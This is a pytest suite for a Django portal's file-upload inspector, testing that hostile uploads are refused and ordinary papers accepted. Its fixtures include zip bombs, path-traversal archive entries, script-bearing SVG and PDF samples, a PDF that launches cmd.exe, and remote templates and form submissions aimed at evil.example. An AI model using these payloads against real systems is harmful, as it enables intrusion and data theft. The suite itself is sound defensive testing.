"""What is sent to the portal to harm it, or by mistake: refused with a sentence that helps, or made harmless."""

from __future__ import annotations

import io
import os
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from PIL import Image

from clair_portal.documents.services import inspect
from clair_portal.documents.sniffing import Refused, safe_name
from tests.documents import files

KINDS = "Files of this kind are not taken. Send Word, Excel, PowerPoint, PDF, JPEG, PNG, text or CSV."
DAMAGED = "The file is damaged and cannot be opened."
PASSWORD = "The file is protected by a password. Remove the password and send it again."
PROGRAMS = "The file holds macros or programs. Save it without macros and send it again."
ACTIVE = "The PDF holds scripts or attached files. Print it to a new PDF and send that."
UNPACKED = "Unpacked, the file would be far too large."
ENCODING = "The text is neither UTF-8 nor Shift JIS."
INVISIBLE = "The file name holds invisible characters. Rename the file and send it again."
NO_NAME = "The file has no proper name. Rename the file and send it again."
LONG_NAME = "The file name is too long. Use at most 150 characters."
PIXELS = "The picture is too large. Send one of at most 60 million pixels."
FETCHES = "The file fetches parts of itself from elsewhere. Send it as a PDF."


def not_a(extension: str) -> str:
    return f"The content is not what the name says (.{extension})."


RELATION = (
    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

OTHER_WORDS = (
    '<r:Relationships xmlns:r="x"><r:Relationship Target="HTTPS://evil.example/?a>b" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></r:Relationships>'
)

HOSTILE = {
    # endings that are not taken at all
    "svg with a script": ("map.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', KINDS),
    "web page": ("page.html", lambda: b"<script>alert(1)</script>", KINDS),
    "program": ("setup.exe", lambda: b"MZ\x90\x00", KINDS),
    "program with a harmless middle": ("invoice.pdf.exe", lambda: b"MZ\x90\x00", KINDS),
    "archive": ("papers.zip", lambda: files.packed({"a.txt": "a"}), KINDS),
    "macro workbook": ("plan.xlsm", lambda: files.office("xl"), KINDS),
    "shell script": ("run.sh", lambda: b"#!/bin/sh", KINDS),
    "no ending": ("README", lambda: b"text", KINDS),
    "dot at the end": ("report.pdf.", files.pdf, KINDS),
    # content that is something else
    "program called pdf": ("report.pdf", lambda: b"MZ\x90\x00" + bytes(200), not_a("pdf")),
    "pdf that is an archive too": ("report.pdf", lambda: files.pdf() + files.packed({"a.exe": "MZ"}), not_a("pdf")),
    "pdf behind a web page": ("report.pdf", lambda: b"<html>" + files.pdf(), not_a("pdf")),
    "gif called png": ("photo.png", lambda: files.picture("GIF"), not_a("png")),
    "png called jpg": ("photo.jpg", lambda: files.picture("PNG"), not_a("jpg")),
    "web page called jpg": ("photo.jpeg", lambda: b"<script>alert(1)</script>", not_a("jpeg")),
    "archive called docx": ("letter.docx", lambda: files.packed({"a.txt": "a"}), not_a("docx")),
    "word called xlsx": ("sheet.xlsx", files.office, not_a("xlsx")),
    "text called docx": ("letter.docx", lambda: b"hello", not_a("docx")),
    "installer called doc": ("letter.doc", lambda: files.ole("Property"), not_a("doc")),
    "excel called doc": ("letter.doc", lambda: files.ole("Workbook"), not_a("doc")),
    "text with NUL": ("memo.txt", lambda: b"abc\0def", not_a("txt")),
    "program called csv": ("list.csv", lambda: b"MZ\x90\x00\x03", not_a("csv")),
    # bombs
    "zip bomb": ("letter.docx", files.bomb, UNPACKED),
    "zip bomb that lies about its size": ("letter.docx", files.lying_bomb, DAMAGED),
    "six thousand entries": ("letter.docx", lambda: files.packed({"[Content_Types].xml": files.TYPES, **{f"word/{n}.xml": "x" for n in range(6000)}}), UNPACKED),
    "entities that grow": ("letter.docx", lambda: files.with_part("word/a.xml", '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'), DAMAGED),
    "entities in UTF-16": ("letter.docx", lambda: files.with_part("word/a.xml", '<!DOCTYPE a [<!ENTITY b "b">]><a/>'.encode("utf-16")), DAMAGED),
    "picture of ten gigapixels": ("photo.png", lambda: files.png_of(100_000, 100_000), PIXELS),
    "picture of 64 megapixels": ("photo.png", lambda: files.png_of(8000, 8000), PIXELS),
    "picture of 100 megapixels": ("photo.png", lambda: files.png_of(10_000, 10_000), PIXELS),
    # ways out of the folder
    "entry that climbs up": ("letter.docx", lambda: files.with_part("word/../../../etc/cron.d/x"), DAMAGED),
    "entry that climbs up in Windows": ("letter.docx", lambda: files.with_part("word\\..\\..\\x"), DAMAGED),
    "entry from the root": ("letter.docx", lambda: files.with_part("/etc/passwd"), DAMAGED),
    "entry on a drive": ("letter.docx", lambda: files.with_part("C:/windows/x"), DAMAGED),
    "symbolic link": ("letter.docx", files.symbolic_link, DAMAGED),
    "two entries of one name": ("letter.docx", files.twice_the_same_name, DAMAGED),
    # programs inside
    "macro docx": ("letter.docx", lambda: files.with_part("word/vbaProject.bin", b"\xd0\xcf"), PROGRAMS),
    "macro under another name": ("letter.docx", lambda: files.packed({"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml": "x", "word/a.bin": "x"}), PROGRAMS),
    "program in a presentation": ("talk.pptx", lambda: files.with_part("ppt/embeddings/setup.EXE", folder="ppt"), PROGRAMS),
    "script in a workbook": ("sheet.xlsx", lambda: files.with_part("xl/run.vbs", folder="xl"), PROGRAMS),
    "archive in a letter": ("letter.docx", lambda: files.with_part("word/embeddings/more.zip"), PROGRAMS),
    "macro doc": ("letter.doc", lambda: files.ole("WordDocument", "_VBA_PROJECT"), PROGRAMS),
    "macro xls": ("sheet.xls", lambda: files.ole("Workbook", "_VBA_PROJECT"), PROGRAMS),
    "template from the net": ("letter.docx", lambda: files.with_part("word/_rels/settings.xml.rels", RELATION), FETCHES),
    "template from the net in other words": ("letter.docx", lambda: files.with_part("word/_rels/settings.xml.rels", OTHER_WORDS), FETCHES),
    "a relation that never ends": ("letter.docx", lambda: files.with_part("word/_rels/a.xml.rels", "<Relationships>" + "".join(f"<Relationship {n} " for n in range(50_000))), DAMAGED),
    "relations of five megabytes": ("letter.docx", lambda: files.with_part("word/_rels/a.xml.rels", os.urandom(5 * 1024 * 1024)), UNPACKED),
    # passwords
    "encrypted xlsx": ("sheet.xlsx", lambda: files.ole("EncryptionInfo", "EncryptedPackage"), PASSWORD),
    "encrypted entries": ("letter.docx", files.password_protected, PASSWORD),
    "encrypted pdf": ("report.pdf", lambda: files.pdf(b"trailer << /Encrypt 4 0 R >>"), PASSWORD),
    # active PDF
    "pdf with JavaScript": ("report.pdf", lambda: files.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), ACTIVE),
    "pdf with JavaScript spelled otherwise": ("report.pdf", lambda: files.pdf(b"<< /S /J#61va#53cript /J#53 (x) >>"), ACTIVE),
    "pdf with JavaScript in a packed object": ("report.pdf", files.pdf_with_packed_script, ACTIVE),
    "pdf with JavaScript in a packed object spelled otherwise": ("report.pdf", lambda: files.pdf_with_packed_script().replace(b"/ObjStm", b"/Obj#53tm"), ACTIVE),
    "pdf with a hundred thousand packed objects": ("report.pdf", lambda: files.pdf(b"/ObjStm stream\n" * 100_000), UNPACKED),
    "pdf whose packed objects hold each other": ("report.pdf", lambda: files.pdf(files.nested_objects(2000)), UNPACKED),
    "pdf that grows": ("report.pdf", lambda: files.pdf(b"/ObjStm stream\n" + zlib.compress(bytes(80 * 1024 * 1024))), UNPACKED),
    "pdf that starts a program": ("report.pdf", lambda: files.pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE),
    "pdf with an attached file": ("report.pdf", lambda: files.pdf(b"<< /Type /EmbeddedFile >>"), ACTIVE),
    "pdf with a list of attached files": ("report.pdf", lambda: files.pdf(b"<< /Names << /EmbeddedFiles 3 0 R >> >>"), ACTIVE),
    "pdf with an XFA form": ("report.pdf", lambda: files.pdf(b"<< /XFA [(a) 3 0 R] >>"), ACTIVE),
    "pdf that sends forms away": ("report.pdf", lambda: files.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), ACTIVE),
    # broken
    "truncated pdf": ("report.pdf", lambda: files.pdf()[:40], DAMAGED),
    "truncated docx": ("letter.docx", lambda: files.office()[:-40], DAMAGED),
    "truncated jpeg": ("photo.jpg", lambda: files.picture("JPEG", (400, 400))[:600], DAMAGED),
    "truncated png": ("photo.png", lambda: files.png_of(100, 100), DAMAGED),
    "empty file": ("memo.txt", lambda: b"", "The file is empty."),
    "UTF-16 list": ("list.csv", lambda: "市,町\r\n".encode("utf-16"), ENCODING),
    "JIS list": ("list.csv", lambda: "小樽市\r\n".encode("iso2022_jp"), ENCODING),
    "bytes that are no text": ("memo.txt", lambda: b"\xff\xfd\xfc text", ENCODING),
}  # fmt: skip


def upload(name: str, content: bytes) -> UploadedFile:
    return SimpleUploadedFile(name, content)


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_or_odd_file_is_refused_with_a_sentence_that_helps(case: str) -> None:
    name, make, sentence = HOSTILE[case]
    with pytest.raises(Refused) as refused:
        inspect(upload(name, make()))
    assert str(refused.value) == sentence


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("a\0.pdf", INVISIBLE),
        ("a\n.pdf", INVISIBLE),
        ("report\u202efdp.exe.pdf", INVISIBLE),
        ("report\u200b.pdf", INVISIBLE),
        ("report\ufeff.pdf", INVISIBLE),
        ("a\u2028b.pdf", INVISIBLE),
        (".htaccess", NO_NAME),
        ("..", NO_NAME),
        ("", NO_NAME),
        ("   ", NO_NAME),
        ("folder/", None),
        ("あ" * 300 + ".pdf", LONG_NAME),
        ("a" * 147 + ".pdf", LONG_NAME),
    ],
)
def test_a_file_name_that_hides_something_is_refused(name: str, sentence: str | None) -> None:
    if sentence is None:
        assert safe_name(name) == "folder"
        return
    with pytest.raises(Refused) as refused:
        safe_name(name)
    assert str(refused.value) == sentence


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("/etc/passwd.txt", "passwd.txt"),
        ("..\\..\\windows\\list.csv", "list.csv"),
        ("C:\\Users\\haru\\報告書.pdf", "報告書.pdf"),
        ("カ\u3099イド.pdf", "ガイド.pdf"),
        ("  report.pdf  ", "report.pdf"),
        ("a" * 146 + ".pdf", "a" * 146 + ".pdf"),
    ],
)
def test_of_a_path_only_the_name_is_kept(sent: str, kept: str) -> None:
    assert safe_name(sent) == kept


def test_more_than_20_megabytes_are_refused_before_they_are_read() -> None:
    big = upload("memo.txt", b"a" * (21 * 1024 * 1024))
    with pytest.raises(Refused, match=r"^The file is larger than 20 MB\.$"):
        inspect(big)


@pytest.mark.parametrize(
    ("name", "make", "media_type"),
    [
        ("letter.docx", files.office, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("SHEET.XLSX", lambda: files.office("xl"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        (
            "talk.pptx",
            lambda: files.office("ppt"),
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ),
        ("letter.doc", lambda: files.ole("WordDocument"), "application/msword"),
        ("sheet.xls", lambda: files.ole("Workbook"), "application/vnd.ms-excel"),
        ("report.pdf", files.pdf, "application/pdf"),
        ("memo.txt", lambda: "小樽市より".encode(), "text/plain"),
        ("list.csv", lambda: "小樽市,12\r\n".encode("cp932"), "text/csv"),
        ("list.csv", lambda: b"\xef\xbb\xbf" + "小樽市,12\r\n".encode(), "text/csv"),
        ("photo.jpg", lambda: files.picture("JPEG"), "image/jpeg"),
        ("photo.png", lambda: files.picture("PNG"), "image/png"),
    ],
)
def test_ordinary_papers_of_an_office_are_taken(name: str, make, media_type: str) -> None:
    assert inspect(upload(name, make()))[2] == media_type


def test_a_large_scan_is_not_refused_for_three_letters_that_stand_there_by_chance() -> None:
    assert inspect(upload("scan.pdf", files.pdf(b"stream\n\x01/JS \x02\x03/JS(\nendstream")))[2] == "application/pdf"


def test_a_workbook_may_point_to_another_workbook_of_the_office() -> None:
    link = RELATION.replace("attachedTemplate", "externalLinkPath").replace(
        "https://evil.example/t.dotm", "file:///S:/budget.xlsx"
    )
    content = files.with_part("xl/externalLinks/_rels/externalLink1.xml.rels", link, folder="xl")
    assert inspect(upload("sheet.xlsx", content))[1] == content


def test_place_camera_and_remarks_of_a_photo_are_gone_and_it_stands_upright() -> None:
    sent = files.photo_with_place()
    assert b"SecretCamera" in sent
    assert b"private remark" in sent
    _name, kept, _type, _check = inspect(upload("photo.jpg", sent))
    picture = Image.open(io.BytesIO(kept))
    assert dict(picture.getexif()) == {}
    assert picture.size == (20, 40)
    assert b"SecretCamera" not in kept
    assert b"private remark" not in kept
    assert b"Exif" not in kept


def test_an_archive_behind_a_picture_is_gone() -> None:
    sent = files.picture("PNG") + files.packed({"run.exe": "MZ"})
    assert zipfile.is_zipfile(io.BytesIO(sent))
    kept = inspect(upload("photo.png", sent))[1]
    assert not zipfile.is_zipfile(io.BytesIO(kept))
    assert Image.open(io.BytesIO(kept)).size == (8, 6)


def test_a_web_page_behind_a_photo_is_gone() -> None:
    kept = inspect(upload("photo.jpg", files.picture("JPEG") + b"<script>alert(1)</script>"))[1]
    assert b"<script>" not in kept


def test_text_in_a_picture_is_gone() -> None:
    text = b"\0\0\0\x11tEXtComment\0password" + zlib.crc32(b"tEXtComment\0password").to_bytes(4, "big")
    plain = files.picture("PNG")
    sent = plain[:33] + text[:3] + bytes([len(b"Comment\0password")]) + text[4:] + plain[33:]
    assert b"password" in sent
    assert b"password" not in inspect(upload("photo.png", sent))[1]
